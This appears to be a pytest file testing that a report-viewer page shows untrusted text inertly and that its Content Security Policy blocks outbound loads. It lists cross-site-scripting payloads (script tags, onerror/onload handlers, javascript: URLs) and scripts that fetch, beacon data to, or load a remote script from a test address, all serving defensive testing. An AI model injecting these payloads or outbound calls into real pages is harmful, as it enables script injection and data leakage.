"""Untrusted text is shown as it was written, and nothing in it runs, is loaded or becomes part of the page."""

from __future__ import annotations

import pytest

from .contents import FAILED, FINISHED, content_of
from .shown import Shown, address_of

HOSTILE = [
    "<script>window.hit = 1</script>",
    "</script><script>window.hit = 2</script>",
    "</style><img src=x onerror='window.hit = 3'>",
    '"><svg onload="window.hit = 4">',
    "<!-- <script>",
    "--> ]]> */ // `${window.hit = 5}`",
    "javascript:window.hit=6",
    '<a href="javascript:window.hit=7">click</a>',
    "<b>bold</b><br><i>&lt;&amp;&#60;</i>",
    "{{7*7}} %{x} %{text} $x^2$ \\u003c \\",
    "'; window.hit = 8; '",
    "\u202eright to left\u202c \u2066isolated\u2069",
    "a\u2028b\u2029c\x85d",
    "__proto__",
    "constructor",
    "\U0001f600 \ud83d lone",
    "\x1b[31mred\x1b[0m \x07\x08\x0b\x0c\x01",
    "/*STYLE*/ <!--CONTENT--> /*SCRIPTS*/ /*PLOTLY*/",
]
#: Elements that the page never makes itself.
FOREIGN = "img, iframe, object, embed, link, base, form, b, i, svg a, [onload], [onerror], a[href^='javascript:' i]"


def hostile_content() -> dict[str, object]:
    """Return a report in which all text is hostile: names of columns, values, causes, logs, folders, provenance."""
    count = len(HOSTILE)
    names = {f"{text} {number}": [(number + run) % 3 for run in range(count)] for number, text in enumerate(HOSTILE)}
    options = {"lr": [10.0**-run for run in range(count)], "word": list(HOSTILE), **names}
    results = {"acc": [run / 7 for run in range(count)], "<b>loss</b>": [run / 9 for run in range(count)]}
    results |= {"verdict": list(HOSTILE), "curve": [[run, HOSTILE[run], 1.0] for run in range(count)]}
    states = [FAILED if run % 2 else FINISHED for run in range(count)]
    content = content_of(options, results, states, seeds=())
    failed = [run for run in range(count) if states[run] == FAILED]
    content["runs"] |= {
        "cause": [run if states[run] == FAILED else None for run in range(count)],
        "folder": list(HOSTILE),
        "job": list(HOSTILE),
        "place": list(range(count)),
        "program": list(range(count)),
        "out": list(HOSTILE),
    }
    content["attempts"]["slot"] = list(range(count))
    content |= {"causes": HOSTILE, "places": HOSTILE, "slots": HOSTILE, "programs": HOSTILE, "cut": HOSTILE}
    content |= {"logs": {str(run): text for run, text in enumerate(HOSTILE)}}
    content |= {"failures": [{"cause": HOSTILE[run], "runs": [run], "log": run} for run in failed]}
    shares = [[name, 1 / count] for name in names]
    text = " ".join(HOSTILE)
    importance = {"key": "acc", "runs": count, "method": text, "complete": True, "shares": shares, "text": text}
    content["importance"] = importance
    content["searches"][0] |= {"name": text, "folder": text, "state": text, "command": text, "notes": HOSTILE}
    content["searches"][0]["provenance"] = [[text, text] for text in HOSTILE]
    return content


def assert_harmless(shown: Shown) -> None:
    """Fail if a part of the content ran or became elements of the page."""
    assert shown.run("typeof window.hit") == "undefined"
    assert shown.run(f'[...document.querySelectorAll("{FOREIGN}")].map((each) => each.outerHTML)') == []
    assert shown.run("document.querySelectorAll('script').length") == 3


def test_hostile_text_is_shown_by_all_views_and_does_nothing(show):
    shown = show(hostile_content())
    shown.whole_text()
    assert_harmless(shown)


def test_the_panel_shows_hostile_text_as_it_is(show):
    shown = show(hostile_content(), address_of(run="0:1", rows="runs", sort=["run run", 1]), draws=False)
    panels = [_panel_text(shown, number) for number in range(1, len(HOSTILE) + 1)]
    assert [text for text, panel in zip(HOSTILE, panels) if text not in panel] == []
    assert_harmless(shown)


@pytest.mark.parametrize(
    "script",
    [
        "document.body.append(Object.assign(new Image(), { src: 'http://192.0.2.1/picture.png' }))",
        "fetch('http://192.0.2.1/').catch(() => {})",
        "navigator.sendBeacon('http://192.0.2.1/', 'runs')",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://192.0.2.1/' }))",
        "document.head.append(Object.assign(document.createElement('script'), { src: 'http://192.0.2.1/x.js' }))",
        "document.body.style.background = 'url(http://192.0.2.1/picture.png)'",
    ],
)
def test_the_page_refuses_to_load_or_send_anything(show, script):
    shown = show(content_of({"lr": [0.1]}, {"acc": [0.5]}), draws=False)
    shown.expected = ["Content Security Policy", "request: http://192.0.2.1/"]
    refused = "new Promise((done) => addEventListener('securitypolicyviolation', (event) => done(event.blockedURI)))"
    blocked = shown.run(f"() => {{ const refused = {refused}; {script}; return refused; }}")
    assert blocked.startswith("http://192.0.2.1")


def _panel_text(shown: Shown, number: int) -> str:
    """Go on to this run in the panel, which shows the one before, and return what it shows."""
    panel = shown.page.locator("#panel")
    if number > 1:
        panel.locator("[aria-label^=Next]").click()
    assert panel.locator("h2").first.inner_text() == f"run {number}"
    return panel.text_content()
